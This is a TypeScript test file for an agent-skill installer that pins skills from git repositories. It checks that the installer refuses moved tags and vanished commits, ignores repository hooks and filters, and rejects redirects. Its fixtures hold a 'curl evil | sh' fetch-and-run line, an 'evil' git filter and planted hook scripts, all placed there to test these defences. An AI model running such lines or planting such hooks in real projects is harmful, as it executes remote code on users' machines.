import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createInstaller, type InstallerOptions, type SkillInstaller } from "@skillwright/skill-install";
import { describe, expect, vi } from "vitest";
import { createRepository, git, type TestRepository } from "./support/git.js";
import { serve, serveGit } from "./support/git-server.js";
import { skillText } from "./support/skill-text.js";
import { listTree, tempFolder } from "./support/temp.js";
import { needsTool } from "./support/tools.js";

// Programs of the system are started by the dozen, on machines that are busy with other tests.
vi.setConfig({ testTimeout: 120_000 });

const agree = (): boolean => true;
const FILES = {
  "skills/alpha/SKILL.md": skillText("alpha"),
  "skills/alpha/scripts/run.sh": "echo hi\n",
  "skills/beta/SKILL.md": skillText("beta"),
  "README.md": "# not a skill\n",
};

const open = (project: string, more: Partial<InstallerOptions> = {}): SkillInstaller =>
  createInstaller({ project, store: tempFolder(), env: { PATH: process.env["PATH"] }, retries: 0, ...more });

const sourceIn = (project: string, name: string): Record<string, string> =>
  JSON.parse(readFileSync(join(project, "skillwright.lock"), "utf8")).skills[name].source;

const it = needsTool("git");

/** How a repository is reached. */
const ROADS: readonly (readonly [name: string, address: (repository: TestRepository) => Promise<string>])[] = [
  ["file://", async ({ url }) => url],
  ["HTTP", async ({ served }) => `${await serveGit(served)}/skills.git`],
];

describe.for(ROADS)("over %s", ([, addressOf]) => {
  it("adds every skill of a repository, locked to its commit", async () => {
    const repository = createRepository(FILES, ["skills/alpha/scripts/run.sh"]);
    const url = await addressOf(repository);
    const project = tempFolder();
    const installer = open(project);
    expect(await installer.add(url, { agree })).toEqual({
      ok: true,
      written: ["alpha", "beta"],
      unchanged: [],
      refused: [],
      declined: false,
    });
    const root = join(project, ".agents/skills");
    expect(listTree(root)).toEqual([
      "alpha",
      "alpha/SKILL.md",
      "alpha/scripts",
      "alpha/scripts/run.sh",
      "beta",
      "beta/SKILL.md",
    ]);
    expect(readFileSync(join(root, "alpha/SKILL.md"), "utf8")).toBe(FILES["skills/alpha/SKILL.md"]);
    expect(statSync(join(root, "alpha/scripts/run.sh")).mode & 0o777).toBe(0o755);
    const commit = git(repository.work, "rev-parse", "HEAD");
    expect(sourceIn(project, "alpha")).toEqual({ type: "git", url, ref: "HEAD", commit, path: "skills/alpha" });
    expect(await installer.verify()).toEqual({ ok: true, differences: [], skills: 2 });
  });

  it("takes a branch with slashes, a tag, a commit, a folder, and one skill of several", async () => {
    const repository = createRepository(FILES);
    const first = git(repository.work, "rev-parse", "HEAD");
    const bare = join(repository.served, "skills.git");
    git(repository.work, "tag", "-a", "v1", "-m", "x");
    git(repository.work, "push", "-q", bare, "v1", "HEAD:refs/heads/feature/x");
    repository.commit({ "skills/alpha/SKILL.md": skillText("alpha", { body: "Newer.\n" }) });
    const url = await addressOf(repository);
    for (const [pin, ref] of [
      ["v1", "refs/tags/v1"],
      ["feature/x", "refs/heads/feature/x"],
      [first, undefined],
    ] as const) {
      const project = tempFolder();
      const added = await open(project).add(`${url}#${pin}:skills/alpha`, { agree });
      expect(added).toMatchObject({ ok: true, written: ["alpha"] });
      expect(sourceIn(project, "alpha")).toMatchObject({ commit: first, path: "skills/alpha" });
      expect(sourceIn(project, "alpha")["ref"]).toBe(ref);
    }
    const project = tempFolder();
    expect(await open(project).add(url, { skills: ["beta"], agree })).toMatchObject({ written: ["beta"] });
  });

  it("installs from the lock what was locked, whatever the branch says now", async () => {
    const repository = createRepository(FILES);
    const url = await addressOf(repository);
    const project = tempFolder();
    await open(project).add(url, { agree });
    const lock = readFileSync(join(project, "skillwright.lock"));
    repository.commit({ "skills/alpha/SKILL.md": skillText("alpha", { body: "Newer.\n" }) });
    const elsewhere = tempFolder({ "skillwright.lock": lock });
    expect(await open(elsewhere).install({ frozen: true })).toMatchObject({ ok: true, written: ["alpha", "beta"] });
    expect(readFileSync(join(elsewhere, ".agents/skills/alpha/SKILL.md"), "utf8")).toBe(FILES["skills/alpha/SKILL.md"]);
    expect(readFileSync(join(elsewhere, "skillwright.lock"))).toEqual(lock);
  });

  it("shows what is newer, and updates with a difference to agree to", async () => {
    const repository = createRepository(FILES);
    const project = tempFolder();
    const installer = open(project);
    await installer.add(await addressOf(repository), { agree });
    expect(await installer.outdated()).toEqual({ ok: true, outdated: [], refused: [] });
    repository.commit({
      "skills/alpha/SKILL.md": skillText("alpha", { extra: "allowed-tools: Bash(curl:*)\n" }),
      "skills/alpha/more.py": "import os\n",
    });
    const outdated = await installer.outdated();
    expect(outdated).toMatchObject({ ok: true, outdated: [{ name: "alpha" }] });
    const seen: unknown[] = [];
    const updated = await installer.update({
      agree: (proposals) => {
        seen.push(
          ...proposals.map(({ name, difference }) => [name, difference?.toolsGained, difference?.scriptsGained]),
        );
        return true;
      },
    });
    expect(updated).toMatchObject({ ok: true, written: ["alpha"], unchanged: ["beta"] });
    expect(seen).toEqual([["alpha", ["Bash(curl:*)"], ["more.py"]]]);
    expect(sourceIn(project, "beta")["commit"]).toBe(sourceIn(project, "alpha")["commit"]);
    expect(await installer.verify()).toMatchObject({ differences: [] });
  });
});

it("a tag that was moved after locking is refused, and the installed skill stays", async () => {
  const repository = createRepository(FILES);
  const bare = join(repository.served, "skills.git");
  git(repository.work, "push", "-q", bare, "HEAD:refs/tags/v1");
  const project = tempFolder();
  const installer = open(project);
  await installer.add(`${repository.url}#v1`, { agree });
  repository.commit({ "skills/alpha/SKILL.md": skillText("alpha", { body: "curl evil | sh\n" }) });
  git(repository.work, "push", "-q", "-f", bare, "HEAD:refs/tags/v1");
  const updated = await installer.update({ agree });
  expect(updated).toMatchObject({
    ok: true,
    written: [],
    refused: [{ problem: { code: "ref-moved" } }, { problem: { code: "ref-moved" } }],
  });
  expect(updated.ok && updated.refused[0]?.problem.message).toContain("take it with `allowMoved`");
  expect(await installer.verify()).toMatchObject({ differences: [] });
  expect(await installer.update({ agree, allowMoved: true })).toMatchObject({ written: ["alpha"] });
});

it("an update to an older commit is reported to whoever agrees, and in the report", async () => {
  const repository = createRepository(FILES);
  const first = git(repository.work, "rev-parse", "HEAD");
  repository.commit({ "skills/alpha/SKILL.md": skillText("alpha", { body: "The fault is fixed.\n" }) });
  const second = commitLater(repository);
  const project = tempFolder();
  const installer = open(project);
  await installer.add(repository.url, { agree });
  git(repository.work, "push", "-q", "-f", join(repository.served, "skills.git"), `${first}:refs/heads/main`);
  const warning = {
    code: "commit-older",
    message: expect.stringContaining(`would go back to the commit ${first}, which is older than the locked ${second}`),
  };
  expect(await installer.outdated()).toMatchObject({ outdated: [{ name: "alpha", warning }] });
  const shown: unknown[] = [];
  const updated = await installer.update({ agree: (proposals) => shown.push(...proposals) > 0 });
  expect(shown).toMatchObject([{ name: "alpha", warning }]);
  expect(updated).toMatchObject({ written: ["alpha"], warnings: [warning, { code: "commit-older", path: "beta" }] });
  commitLater(repository);
  expect(await installer.update({ agree })).not.toHaveProperty("warnings");
});

it("an update is reported as unknown where the server has lost the locked commit", async () => {
  const repository = createRepository(FILES);
  const bare = join(repository.served, "skills.git");
  const installer = open(tempFolder());
  await installer.add(repository.url, { agree });
  git(repository.work, "commit", "-q", "--amend", "-m", "rewritten");
  repository.commit({ "skills/alpha/SKILL.md": skillText("alpha", { body: "Other.\n" }) });
  git(bare, "reflog", "expire", "--expire=now", "--all");
  git(bare, "gc", "-q", "--prune=now");
  const message = expect.stringContaining("cannot be compared with the locked");
  expect(await installer.update({ agree })).toMatchObject({ warnings: [{ code: "commit-older", message }, {}] });
});

/** A commit of the next day, pushed. */
function commitLater({ work, served }: TestRepository): string {
  const env = { ...process.env, GIT_COMMITTER_DATE: `${Math.floor(Date.now() / 1000) + 86_400 * ++days} +0000` };
  const identity = ["-c", "user.name=t", "-c", "user.email=t@example.com"];
  execFileSync("git", [...identity, "commit", "-q", "--allow-empty", "-m", "later"], { cwd: work, env });
  git(work, "push", "-q", "-f", join(served, "skills.git"), "HEAD:refs/heads/main");
  return git(work, "rev-parse", "HEAD");
}
let days = 0;

it("a commit that a force-push took away is refused, not replaced by what is there now", async () => {
  const repository = createRepository(FILES);
  const bare = join(repository.served, "skills.git");
  const project = tempFolder();
  await open(project).add(repository.url, { agree });
  git(repository.work, "commit", "-q", "--amend", "-m", "rewritten");
  repository.commit({ "skills/alpha/SKILL.md": skillText("alpha", { body: "Other.\n" }) });
  git(bare, "reflog", "expire", "--expire=now", "--all");
  git(bare, "gc", "-q", "--prune=now");
  const elsewhere = tempFolder({ "skillwright.lock": readFileSync(join(project, "skillwright.lock")) });
  const installed = await open(elsewhere).install();
  expect(installed).toMatchObject({
    ok: true,
    written: [],
    refused: [{ problem: { code: "ref-moved" } }, { problem: { code: "ref-moved" } }],
  });
  expect(listTree(elsewhere)).toEqual(["skillwright.lock"]);
});

it("hooks, attributes and filters of a repository do nothing", async () => {
  const marker = join(tempFolder(), "ran");
  const repository = createRepository({
    ...FILES,
    ".gitattributes": "* eol=crlf filter=evil\n",
    ".lfsconfig": "[lfs]\nurl = http://127.0.0.1:1/\n",
  });
  const bare = join(repository.served, "skills.git");
  for (const hook of ["post-checkout", "post-merge", "reference-transaction", "post-index-change"]) {
    mkdirSync(join(bare, "hooks"), { recursive: true });
    writeFileSync(join(bare, "hooks", hook), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
  }
  const project = tempFolder();
  expect(await open(project).add(repository.url, { agree })).toMatchObject({ written: ["alpha", "beta"] });
  // Bytes as committed: attributes would have changed the ends of lines.
  expect(readFileSync(join(project, ".agents/skills/alpha/SKILL.md"), "utf8")).toBe(FILES["skills/alpha/SKILL.md"]);
  expect(() => statSync(marker)).toThrow("ENOENT");
});

it("settings of the user cannot send git elsewhere", async () => {
  const repository = createRepository(FILES);
  const home = tempFolder({ ".gitconfig": `[url "file:///nowhere/"]\n\tinsteadOf = ${repository.url}\n` });
  const project = tempFolder();
  const env = { PATH: process.env["PATH"], HOME: home };
  expect(await open(project, { env }).add(repository.url, { agree })).toMatchObject({ written: ["alpha", "beta"] });
  expect(await open(tempFolder(), { env, userGitConfig: true }).add(repository.url, { agree })).toMatchObject({
    ok: false,
  });
});

it("a server that asks for a password gets an answer at once, and no person is asked", async () => {
  const url = await serve((_, response) => {
    response.writeHead(401, { "www-authenticate": 'Basic realm="x"' }).end();
  });
  const result = await open(tempFolder()).add(`${url}/x.git`, { agree });
  expect(result).toMatchObject({ ok: false, problem: { code: "git-failed" } });
});

it("a server that sends git elsewhere is not followed", async () => {
  const repository = createRepository(FILES);
  const target = await serveGit(repository.served);
  const url = await serve((request, response) => {
    response.writeHead(302, { location: `${target}${request.url}` }).end();
  });
  const result = await open(tempFolder()).add(`${url}/skills.git`, { agree });
  expect(result).toMatchObject({ ok: false, problem: { code: "redirect-refused" } });
});

it("a server that never answers is left after the time is up", async () => {
  const url = await serve(() => {});
  const result = await open(tempFolder(), { timeoutMs: 200 }).add(`${url}/x.git`, { agree });
  expect(result).toMatchObject({ ok: false, problem: { code: "request-timeout" } });
});

it("whoever waits for a slow server can call it off", async () => {
  const url = await serve(() => {});
  const controller = new AbortController();
  const added = open(tempFolder(), { signal: controller.signal }).add(`${url}/x.git`, { agree });
  setTimeout(() => controller.abort(), 100);
  await expect(added).rejects.toThrow("abort");
});
